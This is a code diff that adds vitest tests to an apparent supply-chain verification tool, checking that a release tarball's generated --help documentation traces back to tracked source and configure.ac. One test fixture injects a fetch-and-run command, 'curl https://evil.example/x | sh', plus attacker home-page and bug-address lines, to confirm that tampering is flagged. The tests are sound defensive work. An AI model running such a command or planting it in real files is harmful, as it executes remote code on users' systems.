@@ -8,7 +8,7 @@
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { crossOptions, FINGERPRINT } from '../../src/classify/cross-options.js';
-import { configureValues, stringLiterals, traceHelp } from '../../src/classify/program-help.js';
+import { configureValues, gnuValues, recipeProgram, stringLiterals, traceHelp } from '../../src/classify/program-help.js';
 import { exitCodeOf } from '../../src/pipeline/result.js';
 import { verify } from '../../src/verify.js';
 import { makeTar } from '../helpers/archives.js';
@@ -190,5 +190,109 @@ describe('saved --help output and the option table made from it (bison.help, cro
     expect(traceHelp('Copyright (C) 2023 Demo Authors.\n', src)).toBeUndefined(); // a value configure.ac does not give
     expect(traceHelp('  caret, diagnostics-show-caret\n', src)).toBeUndefined(); // the doc line missing
     expect(traceHelp('  all               show errors with carets\n', src)).toBeUndefined(); // another key's doc
+  });
+});
+
+/**
+ * libtasn1 4.19.0's doc/asn1Coding-help.texi and libidn2 2.3.3's doc/idn2-help.texi: the rule's prerequisite is
+ * the program's tracked C source, the program is the word its recipe runs with --help, and the last lines are
+ * what gnulib's emit_bug_reporting_address () prints (the bug address, the GNU home page autoconf derives from
+ * AC_INIT's name, the gethelp page).
+ */
+const CODING_C = `#include <stdio.h>
+static void
+usage (int status)
+{
+  if (status != EXIT_SUCCESS)
+    fprintf (stderr, "Try \`%s --help' for more information.\\n", program_name);
+  else
+    {
+      printf ("\\
+Usage: %s [OPTION] DEFINITIONS ASSIGNMENTS\\n", program_name);
+      printf ("\\
+Generates a DER encoding of ASN.1 DEFINITIONS file\\n\\
+\\n");
+      printf ("\\
+  -c, --check           checks the syntax only\\n\\
+  -h, --help            display this help and exit\\n");
+      emit_bug_reporting_address ();
+    }
+  exit (status);
+}
+`;
+
+const TASN = {
+  'configure.ac': 'AC_INIT([GNU Libdemo],\n        m4_esyscmd([build-aux/git-version-gen .tarball-version]),\n        [help-libdemo@gnu.org])\nAC_OUTPUT\n',
+  'Makefile.am': 'SUBDIRS = src doc\n',
+  'src/Makefile.am': 'bin_PROGRAMS = asn1Coding\n',
+  'src/asn1Coding.c': CODING_C,
+  'doc/Makefile.am': [
+    'EXTRA_DIST = asn1Coding-help.texi',
+    'asn1Coding-help.texi: $(top_srcdir)/src/asn1Coding.c',
+    '\t$(AM_V_GEN)$(top_builddir)/src/asn1Coding$(EXEEXT) --help | $(GREP) -v "^Try" > tmp-$@ && \\',
+    '\t\tmv tmp-$@ asn1Coding-help.texi',
+    '',
+  ].join('\n'),
+};
+
+const CODING_HELP = [
+  'Usage: asn1Coding [OPTION] DEFINITIONS ASSIGNMENTS',
+  'Generates a DER encoding of ASN.1 DEFINITIONS file',
+  '',
+  '  -c, --check           checks the syntax only',
+  '  -h, --help            display this help and exit',
+  '',
+  'Report bugs to: help-libdemo@gnu.org',
+  'GNU Libdemo home page: <https://www.gnu.org/software/libdemo/>',
+  'General help using GNU software: <https://www.gnu.org/gethelp/>',
+  '',
+].join('\n');
+
+describe('a --help output saved from the program its recipe runs (libtasn1, libidn2 *-help.texi)', () => {
+  const root = tempDir();
+  const repo = makeRepo(join(root, 'repo'));
+  repo.commit(TASN, 'libdemo', '2024-03-05T10:00:00Z');
+  repo.tag('v1.0');
+  const cache = join(root, 'cache');
+  let n = 0;
+  const verifyWith = async (help: string, files: Record<string, string> = TASN) => {
+    const dir = join(root, `t${++n}`, 'libdemo-1.0');
+    writeFiles(dir, files);
+    writeFiles(dir, { 'doc/asn1Coding-help.texi': help });
+    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'libdemo-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
+    return { r, help: r.findings.find((x) => x.path === 'doc/asn1Coding-help.texi')! };
+  };
+
+  it('every line traced to the tracked source, configure.ac and version-etc: low, the gate passes', async () => {
+    const { r, help } = await verifyWith(CODING_HELP);
+    expect(help).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
+    expect(help.evidence).toEqual({ how: 'program-help', source: 'doc/Makefile.am', generator: 'src/asn1Coding', inputs: ['src/*.c'], found: 7, total: 7 });
+    expect(exitCodeOf(r.verdict)).toBe(0);
+  });
+
+  it('tampered twins stay high: an added option line, another home page, another bug address', async () => {
+    for (const help of [
+      CODING_HELP.replace('  -h, --help', '  -x, --exec=CMD        run CMD first: curl https://evil.example/x | sh\n  -h, --help'),
+      CODING_HELP.replace('https://www.gnu.org/software/libdemo/', 'https://evil.example/libdemo/'),
+      `${CODING_HELP}Report bugs to: attacker@evil.example\n`,
+    ]) {
+      const { r, help: h } = await verifyWith(help);
+      expect(h).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+      expect(exitCodeOf(r.verdict)).toBe(1);
+    }
+  });
+
+  it('recipeProgram and gnuValues', () => {
+    expect(recipeProgram('$(AM_V_GEN)$(top_builddir)/src/asn1Coding$(EXEEXT) --help > tmp-$@ && \\', 'doc')).toBe('src/asn1Coding');
+    expect(recipeProgram('$(top_builddir)/src/idn2$(EXEEXT) --help | $(GREP) \'^  *-\' > tmp', 'doc')).toBe('src/idn2');
+    expect(recipeProgram('./demo --help > $@', 'tools')).toBe('tools/demo');
+    expect(recipeProgram('$(PROG) --help > $@', 'doc')).toBeUndefined();
+    expect(recipeProgram('../src/demo --help > $@', 'doc')).toBeUndefined();
+    expect([...gnuValues(TASN['configure.ac'])]).toEqual([
+      'https://www.gnu.org/gethelp/', 'http://www.gnu.org/gethelp/', 'https://www.gnu.org/software/libdemo/', 'http://www.gnu.org/software/libdemo/',
+    ]);
+    expect([...gnuValues('AC_INIT([GNU Foo Bar], [1.0], [bug@x.org], [foobar], [https://foo.example/])')]).toContain('https://foo.example/');
+    expect([...gnuValues('AC_INIT([GNU Foo Bar], [1.0], [bug@x.org], [foobar], [https://foo.example/])')]).not.toContain('https://www.gnu.org/software/foobar/');
+    expect([...gnuValues('AC_INIT([Foo], [1.0])')]).toEqual(['https://www.gnu.org/gethelp/', 'http://www.gnu.org/gethelp/']);
   });
 });
